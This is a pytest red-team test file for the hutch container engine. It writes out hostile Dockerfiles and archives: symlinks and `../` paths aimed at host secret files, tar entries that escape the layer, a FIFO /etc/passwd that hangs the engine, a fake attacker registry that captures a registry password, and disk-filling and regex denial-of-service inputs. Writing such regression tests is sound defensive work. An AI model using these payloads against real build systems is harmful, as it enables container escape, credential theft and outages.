"""Red team: Dockerfiles, COPY --from, USER, cache mounts, local files and registry secrets.

Each test is an attack.  Those marked VULNERABLE were holes a red team found in the first
version of these features (each failed then) and are closed now; the others are attacks
hutch stopped from the start.
The engine-hanging tests run last: when the engine's event loop is stuck they end the
engine (by its pid, it is this session's private one) so that later runs start afresh.
"""

from __future__ import annotations

import base64
import http.server
import io
import os
import signal
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, ClassVar

import pytest

import hutch
from hutch.exception import Error
from tests.security.test_image_paths import make_tar

#: A health request answers within this many seconds, or the engine is stuck.
HEALTH_DEADLINE = 20.0
#: A hostile build ends (with an error) within this many seconds, or it hangs.
BUILD_DEADLINE = 180.0


# helpers ---------------------------------------------------------------------------------
def engine_answers(deadline: float = HEALTH_DEADLINE) -> bool:
    """Whether GET /v1/health answers within ``deadline``, asked by another process (a stuck
    engine must not take this one with it)."""
    code = ("from hutch.sdk.transport import request_blocking; "
            "request_blocking('GET', '/v1/health', autostart=False)")
    try:
        proc = subprocess.run([sys.executable, "-c", code], timeout=deadline,
                              capture_output=True)
    except subprocess.TimeoutExpired:
        return False
    return proc.returncode == 0


def in_thread(call: Callable[[], Any]) -> tuple[threading.Thread, list[Any]]:
    box: list[Any] = []

    def run() -> None:
        try:
            box.append(call())
        except BaseException as exc:
            box.append(exc)

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    return thread, box


def engine_pid() -> int:
    """The pid of this session's private engine (started again if an earlier test ended it)."""
    from hutch.sdk.transport import request_blocking

    return int(request_blocking("GET", "/v1/engine")["pid"])


def end_stuck_engine(pid: int) -> None:
    """SIGKILL this session's private engine (by the pid it reported) if it is stuck."""
    if engine_answers(5):
        return
    try:
        os.kill(pid, signal.SIGKILL)
    except ProcessLookupError:
        return
    time.sleep(2)


def dockerfile(tmp_path: Path, text: str, files: dict[str, str] | None = None) -> Path:
    for name, content in (files or {}).items():
        path = tmp_path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content)
    tmp_path.mkdir(parents=True, exist_ok=True)
    (tmp_path / "Dockerfile").write_text(text)
    return tmp_path / "Dockerfile"


def sandbox_out(image: hutch.Image, script: str) -> str:
    sb = hutch.Sandbox.create("sleep", "300", image=image, timeout=300)
    try:
        proc = sb.exec("sh", "-c", script, timeout=120)
        out = proc.stdout.read()
        proc.wait()
        return str(out)
    finally:
        sb.terminate()


@pytest.fixture
def host_secret() -> Iterator[Path]:
    """A file of the engine's user on the host that no image may ever hold."""
    path = Path.home() / f"rt-secret-{uuid.uuid4().hex[:10]}.txt"
    path.write_text("HOST-SECRET-" + uuid.uuid4().hex + "\n")
    yield path
    path.unlink(missing_ok=True)


# attacks hutch stopped -----------------------------------------------------------------------
def test_copy_from_symlinks_in_the_source_image_stay_inside_it(
        engine: dict[str, Any], tmp_path: Path, host_secret: Path) -> None:
    """STOPPED: a stage whose files are symlinks to host paths (absolute, relative with many
    ``..``, a symlinked directory) and COPY --from of them: the copy resolves inside the
    stage's root (or copies the link as a link), never reads the host file."""
    ups = "../" * 30
    df = dockerfile(tmp_path, f"""\
ARG BASE
FROM $BASE AS evil
RUN ln -s {host_secret} /abs && ln -s {ups}{str(host_secret)[1:]} /rel \\
 && ln -s {ups}{str(host_secret.parent)[1:]} /homedir && mkdir -p /d \\
 && ln -s {host_secret} /d/inner
FROM $BASE
COPY --from=evil /abs /out/abs
COPY --from=evil /rel /out/rel
COPY --from=evil /d /out/d/
""")
    image = hutch.Image.from_dockerfile(df, context_dir=tmp_path,
                                        build_args={"BASE": engine["default_image"]})
    try:
        out = sandbox_out(image, "cat /out/abs /out/rel /out/d/inner 2>&1; ls -la /out/d")
    except Error as exc:  # refusing is fine too
        out = str(exc)
    assert "HOST-SECRET" not in out, out
    # the directory source through a symlink to the host's home
    df2 = dockerfile(tmp_path, f"""\
ARG BASE
FROM $BASE AS evil
RUN ln -s {ups}{str(host_secret.parent)[1:]} /homedir
FROM $BASE
COPY --from=evil /homedir/ /loot/
""")
    image2 = hutch.Image.from_dockerfile(df2, context_dir=tmp_path,
                                         build_args={"BASE": engine["default_image"]})
    try:
        out2 = sandbox_out(image2, f"cat /loot/{host_secret.name} 2>&1; ls /loot")
    except Error as exc:
        out2 = str(exc)
    assert "HOST-SECRET" not in out2, out2


def test_copy_from_a_fifo_source_is_refused_at_once(engine: dict[str, Any],
                                                    tmp_path: Path) -> None:
    """STOPPED: COPY --from of a FIFO of the stage (top level) fails at once."""
    df = dockerfile(tmp_path, f"""\
ARG BASE
FROM $BASE AS evil
RUN mkfifo /fifo && echo {uuid.uuid4().hex}
FROM $BASE
COPY --from=evil /fifo /x
""")
    image = hutch.Image.from_dockerfile(df, context_dir=tmp_path,
                                        build_args={"BASE": engine["default_image"]})
    thread, box = in_thread(image.build)
    thread.join(BUILD_DEADLINE)
    assert not thread.is_alive(), "COPY --from of a FIFO hangs the build"
    assert isinstance(box[0], Error), box


def test_chown_names_come_from_the_image_not_the_host(engine: dict[str, Any],
                                                      tmp_path: Path) -> None:
    """STOPPED: /etc/passwd of the image is a symlink to the host's /etc/passwd (absolute
    and with ``..``); --chown=<a user only the host has> is not found (looked up inside)."""
    host_only = next(line.split(":")[0] for line in Path("/etc/passwd").read_text().splitlines()
                     if line.split(":")[0] in ("hutchtest", "sshd", "messagebus", "systemd-network",
                                                "_apt", "man", "nobody"))
    ups = "../" * 30
    df = dockerfile(tmp_path, f"""\
ARG BASE
FROM $BASE
RUN rm /etc/passwd && ln -s {ups}etc/passwd /etc/passwd
COPY --chown={host_only} f /f
""", {"f": "x\n"})
    image = hutch.Image.from_dockerfile(df, context_dir=tmp_path,
                                        build_args={"BASE": engine["default_image"]})
    with pytest.raises(Error):
        image.build()


def test_cache_mount_through_image_symlink_stays_in_the_image(
        engine: dict[str, Any], tmp_path: Path) -> None:
    """STOPPED: RUN --mount=type=cache,target=/c where /c is a symlink climbing to the host's
    /tmp: the cache lands at the image's /tmp, and nothing is written on the host."""
    name = f"rt-cache-{uuid.uuid4().hex[:10]}"
    ups = "../" * 30
    df = dockerfile(tmp_path, f"""\
ARG BASE
FROM $BASE
RUN ln -s {ups}tmp/{name} /c
RUN --mount=type=cache,target=/c touch /c/pwned && ls -la /tmp/{name}/pwned
""")
    image = hutch.Image.from_dockerfile(df, context_dir=tmp_path,
                                        build_args={"BASE": engine["default_image"]})
    try:
        image.build()
    except Error:
        pass
    assert not os.path.lexists(f"/tmp/{name}"), "the cache mount followed a symlink to the host"


def test_context_symlink_out_of_the_context_is_refused(tmp_path: Path,
                                                       host_secret: Path,
                                                       engine: dict[str, Any]) -> None:
    """STOPPED: a repo whose context holds ``leak -> ~/secret`` and ``d/leak``; COPY leak
    and COPY d/* are refused, COPY d/ copies the link as a link."""
    ctx = tmp_path / "ctx"
    (ctx / "d").mkdir(parents=True)
    (ctx / "leak").symlink_to(host_secret)
    (ctx / "d" / "leak").symlink_to(host_secret)
    for line in ("COPY leak /x", "COPY d/* /x/", "COPY */leak /x/"):
        (ctx / "Dockerfile").write_text(f"ARG BASE\nFROM $BASE\n{line}\n")
        with pytest.raises(Error):
            hutch.Image.from_dockerfile(ctx / "Dockerfile", context_dir=ctx,
                                        build_args={"BASE": engine["default_image"]}).build()
    (ctx / "Dockerfile").write_text("ARG BASE\nFROM $BASE\nCOPY d/ /x/\n")
    image = hutch.Image.from_dockerfile(ctx / "Dockerfile", context_dir=ctx,
                                        build_args={"BASE": engine["default_image"]})
    out = sandbox_out(image, "cat /x/leak 2>&1; readlink /x/leak")
    assert "HOST-SECRET" not in out, out


def test_add_of_a_hostile_local_archive_is_refused(engine: dict[str, Any],
                                                   tmp_path: Path) -> None:
    """STOPPED: ADD evil.tar with ``../`` names, absolute names, a hard link out and a device:
    each is refused by the engine (nothing lands on the host)."""
    marker = f"rt-add-{uuid.uuid4().hex[:10]}"
    cases = [
        [(f"../../../../../../../../tmp/{marker}", "file", "x")],
        [(f"/tmp/{marker}", "file", "x")],
        [("h", "hardlink", f"../../../../../../tmp/{marker}")],
        [("dev", "chr", b"")],
    ]
    for entries in cases:
        (tmp_path / "evil.tar").write_bytes(make_tar(entries))
        df = dockerfile(tmp_path, "ARG BASE\nFROM $BASE\nADD evil.tar /x/\n")
        try:
            hutch.Image.from_dockerfile(df, context_dir=tmp_path,
                                        build_args={"BASE": engine["default_image"]}).build()
        except Error:
            pass
        else:
            if entries[0][1] == "chr":
                continue  # a device skipped is fine
            pytest.fail(f"ADD of {entries} was accepted")
        assert not os.path.lexists(f"/tmp/{marker}")


# VULNERABLE: findings -------------------------------------------------------------------------
class _Recorder(http.server.BaseHTTPRequestHandler):
    seen: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        auth = self.headers.get("Authorization")
        if auth:
            type(self).seen.append(auth)
        self.send_response(401)
        self.send_header("WWW-Authenticate", 'Basic realm="evil"')
        self.send_header("Docker-Distribution-API-Version", "registry/2.0")
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_HEAD = do_GET

    def log_message(self, *args: Any) -> None:
        pass


def test_registry_secret_is_not_sent_to_a_registry_the_dockerfile_picks(
        engine: dict[str, Any], tmp_path: Path) -> None:
    """VULNERABLE, now closed (credential leak): the user builds a repo's Dockerfile with
    ``registry_secret`` (their private registry's login, for its FROM).  The Dockerfile also
    says ``COPY --from=127.0.0.1:<port>/x/y`` (any host the Dockerfile's author runs): hutch
    attaches the same secret to that pull, so skopeo sends the user's registry password to
    the attacker's registry.  Docker keys logins by registry host, so a Dockerfile cannot
    redirect them.  (hutch/sdk/imagedocker.py base_for: every registry reference of the
    Dockerfile gets ``registry_secret``.)"""
    _Recorder.seen = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    port = server.server_address[1]
    password = "pw-" + uuid.uuid4().hex
    try:
        df = dockerfile(tmp_path, f"""\
ARG BASE
FROM $BASE
COPY --from=127.0.0.1:{port}/attacker/loot:latest /etc/hostname /h
""")
        secret = hutch.Secret.from_dict({"REGISTRY_USERNAME": "me",
                                         "REGISTRY_PASSWORD": password})
        image = hutch.Image.from_dockerfile(df, context_dir=tmp_path, registry_secret=secret,
                                            build_args={"BASE": engine["default_image"]})
        thread, _ = in_thread(image.build)
        thread.join(BUILD_DEADLINE)
    finally:
        server.shutdown()
    leaked = [a for a in _Recorder.seen if a.startswith("Basic ")
              and password in base64.b64decode(a[6:]).decode(errors="replace")]
    assert not leaked, ("the user's registry password reached a registry named by the "
                        f"Dockerfile: {leaked[:1]}")


def test_dockerignore_patterns_do_not_take_exponential_time(tmp_path: Path) -> None:
    """VULNERABLE, now closed (client DoS, low): a repo's .dockerignore line
    ``**/**/.../**/x`` became a backtracking regex (``(?:.*/)?`` per ``**``); every context
    path was matched against it, so building the repo's Dockerfile hung the client (14
    ``**``: minutes per path).  Now patterns run as an automaton whose states per
    character are bounded by the pattern's tokens (repeated ``**/`` collapse into one), so
    the work is counted here, not timed."""
    from hutch.sdk import dockerparse
    from hutch.sdk.dockerparse import DockerIgnore

    pattern = "/".join(["**"] * 40) + "/x"
    assert dockerparse._tokens(pattern) == [("dss", ""), ("lit", "x")]
    matcher = dockerparse._Matcher("**/a**/b**/c**/d**/e")
    steps = 0
    real_step = matcher._step

    def counted(states: set[tuple[int, bool]], c: str) -> set[tuple[int, bool]]:
        nonlocal steps
        steps += len(states)
        out: set[tuple[int, bool]] = real_step(states, c)
        return out

    matcher._step = counted  # type: ignore[method-assign]
    path = "a/" * 400 + "y"
    assert not matcher.match(path)
    assert steps <= 2 * len(matcher.tokens) * len(path)  # linear in the path
    rules = DockerIgnore([pattern, "!keep/x"])
    assert rules("a/" * 25 + "x") and rules("x") and not rules("keep/x") and not rules("xy")


def test_local_files_do_not_stat_host_paths_through_image_symlinks(
        engine: dict[str, Any], tmp_path: Path) -> None:
    """VULNERABLE, now closed (info leak, low): an image whose lower layer has
    ``/a -> <host dir>`` and
    whose upper layer makes ``/a`` a directory (``RUN ln -s``, then ``RUN rm; mkdir``; a
    registry image can hold the same two layers).  ``add_local_dir(copy=False)`` at
    ``/a/<name>/dst``: hutch/engine/storage/locallayers.py _image_entry (line ~111)
    lstat()s ``<layer>/a/<name>`` on the host, following the lower layer's symlink, and
    _prefix gives the prefix directory that host path's mode and owner: the image learns
    whether a host path exists, its mode and whether the user owns it."""
    probe_dir = Path("/tmp") / f"rt-probe-{uuid.uuid4().hex[:8]}"
    probe_dir.mkdir()
    os.chmod(probe_dir, 0o755)
    probe = probe_dir / "secretdir"
    probe.mkdir()
    os.chmod(probe, 0o710)  # a mode nothing else would give the prefix directory
    try:
        df = dockerfile(tmp_path / "df", f"""\
ARG BASE
FROM $BASE
RUN ln -s {probe_dir} /a
RUN rm /a && mkdir /a
""")
        local = tmp_path / "local"
        local.mkdir()
        (local / "f").write_text("x")
        image = hutch.Image.from_dockerfile(df, context_dir=tmp_path / "df",
                                            build_args={"BASE": engine["default_image"]})
        image = image.add_local_dir(local, "/a/secretdir/dst", copy=False)
        out = sandbox_out(image, "stat -c %a /a/secretdir")
        assert out.strip() != "710", "the sandbox sees the host directory's mode"
    finally:
        os.rmdir(probe)
        os.rmdir(probe_dir)


def test_copy_from_checks_free_space_before_copying_a_sparse_file(tmp_path: Path,
                                                                  monkeypatch: Any) -> None:
    """VULNERABLE, now closed (disk DoS, low): COPY --from of a sparse file
    (``truncate -s 1T`` in a RUN
    costs no disk, and its gzip'd layer little) is written out whole into
    ``<data>/tmp/copy-*/from.tar`` by Builder._tar_from_image / treecopy.tar_sources with no
    free-space check (extraction checks later, too late): the engine's disk fills up (and
    every sandbox and build on it fails) before ENOSPC ends the step.  docs/security.md
    promises each entry's size is checked against the free space first.  Here the tar's
    writer stops the copy after 64 MiB instead of filling this machine's disk."""
    from hutch.api.imagemodels import CopyFromStep
    from hutch.engine.errors import Invalid
    from hutch.engine.images import builder as builder_module

    layer = tmp_path / "layer"
    layer.mkdir()
    free = os.statvfs(tmp_path).f_bavail * os.statvfs(tmp_path).f_frsize
    with open(layer / "big", "wb") as f:
        f.truncate(free + (1 << 30))
    written = [0]

    class Stop(Exception):
        pass

    class Counting(io.RawIOBase):
        def writable(self) -> bool:
            return True

        def tell(self) -> int:
            return written[0]

        def write(self, data: Any) -> int:
            written[0] += len(data)
            if written[0] > 64 << 20:
                raise Stop
            return len(data)

    real_open = open

    def fake_open(path: Any, mode: str = "r", *args: Any, **kw: Any) -> Any:
        if str(path).endswith("from.tar"):
            return Counting()
        return real_open(path, mode, *args, **kw)

    monkeypatch.setattr(builder_module, "open", fake_open, raising=False)
    work = tmp_path / "work"
    work.mkdir()
    step = CopyFromStep(image="stage", sources=["/big"], dest="/big", as_file=True)
    try:
        builder_module.Builder._tar_from_image(step, [layer], work, work / "from.tar")
    except Invalid as exc:
        assert written[0] < 1 << 20, f"refused, but after writing {written[0]} bytes: {exc}"
        return
    except Stop:
        pytest.fail(f"COPY --from wrote {written[0] >> 20} MiB of a {free + (1 << 30)} byte "
                    "file that cannot fit on the disk, without checking the free space")


def test_copy_from_a_very_deep_tree_fails_cleanly(engine: dict[str, Any],
                                                  tmp_path: Path) -> None:
    """STOPPED (roughly): COPY --from of 1500 nested directories: treecopy._add_tree recurses
    once per level, so the build fails with an ``engine`` error "RecursionError" (not a
    clear message), but the engine goes on."""
    df = dockerfile(tmp_path, f"""\
ARG BASE
FROM $BASE AS deep
RUN python3 -c "import os; os.chdir('/'); [ (os.mkdir('d'), os.chdir('d')) for _ in range(1500)]" \\
 && echo {uuid.uuid4().hex}
FROM $BASE
COPY --from=deep /d /d
""")
    image = hutch.Image.from_dockerfile(df, context_dir=tmp_path,
                                        build_args={"BASE": engine["default_image"]})
    thread, box = in_thread(image.build)
    thread.join(BUILD_DEADLINE)
    assert not thread.is_alive(), "the build hangs"
    assert engine_answers(), "the engine does not answer after the build"
    print("deep tree outcome:", repr(box[0])[:500])


@pytest.mark.parametrize("entries", [
    [("python/../../../../tmp/{m}", "file", "x")],
    [("python/bin/", "dir", b""), ("python/bin/l", "symlink", "/tmp"),
     ("python/bin/l/{m}", "file", "x")],
    [("python/bin/", "dir", b""), ("python/bin/l", "symlink", "../../../../../../../../tmp"),
     ("python/bin/l/{m}", "file", "x")],
    [("python/h", "hardlink", "python/../../../../../tmp/{m}")],
    [("/tmp/{m}", "file", "x")],
    [("python/dev", "chr", b"")],
])
def test_standalone_archive_entries_stay_in_the_layer(tmp_path: Path,
                                                      entries: list[Any]) -> None:
    """STOPPED: a python-build-standalone archive (from HUTCH_PYTHON_ARCHIVES or a mirror)
    whose entries climb out, go through its own symlinks, hard-link out, are absolute or
    are devices: refused (or the device skipped), nothing written outside the layer."""
    import gzip

    from hutch.imagebuild import standalone

    m = f"rt-pbs-{uuid.uuid4().hex[:10]}"
    data = make_tar([(n.format(m=m), k, d.format(m=m) if isinstance(d, str) else d)
                     for n, k, d in entries])
    path = tmp_path / "cpython-3.12.1+20240101-x86_64-unknown-linux-gnu-install_only.tar.gz"
    path.write_bytes(gzip.compress(data))
    work = tmp_path / "work"
    work.mkdir()
    try:
        standalone.unpack_to_layer(standalone.Archive(path, "3.12.1", "0" * 64), work)
    except standalone.PythonUnavailable:
        pass
    assert not os.path.lexists(f"/tmp/{m}")
    assert not os.path.lexists(tmp_path / m)


# VULNERABLE: engine hangs (these end the engine when it is stuck; keep them last) -------------
def test_copy_chown_with_a_fifo_passwd_does_not_hang_the_build(
        engine: dict[str, Any], tmp_path: Path) -> None:
    """VULNERABLE, now closed (DoS): a Dockerfile replaces /etc/passwd with a FIFO, then
    ``COPY --chown=app``.  hutch/imagebuild/treecopy.py _table opens /etc/passwd with a
    blocking open(): the engine's worker thread waits forever for a writer, the build never
    ends (its overlay stays mounted); 40 such builds take every thread trio's to_thread
    has, and then no sandbox can be created by anyone."""
    df = dockerfile(tmp_path, f"""\
ARG BASE
FROM $BASE
RUN rm /etc/passwd && mkfifo /etc/passwd && echo {uuid.uuid4().hex}
COPY --chown=app f /f
""", {"f": "x\n"})
    image = hutch.Image.from_dockerfile(df, context_dir=tmp_path,
                                        build_args={"BASE": engine["default_image"]})
    pid = engine_pid()
    thread, box = in_thread(image.build)
    thread.join(90)
    try:
        assert not thread.is_alive(), "COPY --chown over a FIFO /etc/passwd: the build hangs"
        assert isinstance(box[0], Error), box
    finally:
        if thread.is_alive():
            os.kill(pid, signal.SIGKILL)  # the stuck thread never ends
            time.sleep(2)


def test_user_with_a_fifo_passwd_does_not_block_the_engine(
        engine: dict[str, Any], tmp_path: Path) -> None:
    """VULNERABLE, now closed (DoS, high): a Dockerfile replaces /etc/passwd with a FIFO, then
    ``USER app`` and any RUN.  Builder._run_layer (hutch/engine/images/builder.py:269) calls
    treecopy.lookup_owner on the event loop itself, and its blocking open() of the FIFO
    never returns: the whole engine stops answering (every sandbox's exec, files and
    tunnels, every client), until it is killed."""
    df = dockerfile(tmp_path, f"""\
ARG BASE
FROM $BASE
RUN rm /etc/passwd && mkfifo /etc/passwd && echo {uuid.uuid4().hex}
USER app
RUN true
""")
    image = hutch.Image.from_dockerfile(df, context_dir=tmp_path,
                                        build_args={"BASE": engine["default_image"]})
    pid = engine_pid()
    assert engine_answers(), "the engine was not answering before the attack"
    thread, box = in_thread(image.build)
    deadline = time.monotonic() + BUILD_DEADLINE
    stuck = False
    while thread.is_alive() and time.monotonic() < deadline:
        thread.join(5)
        if thread.is_alive() and not engine_answers():
            time.sleep(10)
            stuck = not engine_answers()
            break
    try:
        alive = os.path.exists(f"/proc/{pid}")
        wchan = Path(f"/proc/{pid}/task/{pid}/wchan").read_text() if alive else ""
        assert not stuck, ("the engine stopped answering health requests during the build "
                           f"(its process {'is still there: hung' if alive else 'ended'}; "
                           f"main thread waits in {wchan!r})")
        assert not thread.is_alive(), "the build hangs"
        assert isinstance(box[0], Error), box
    finally:
        end_stuck_engine(pid)
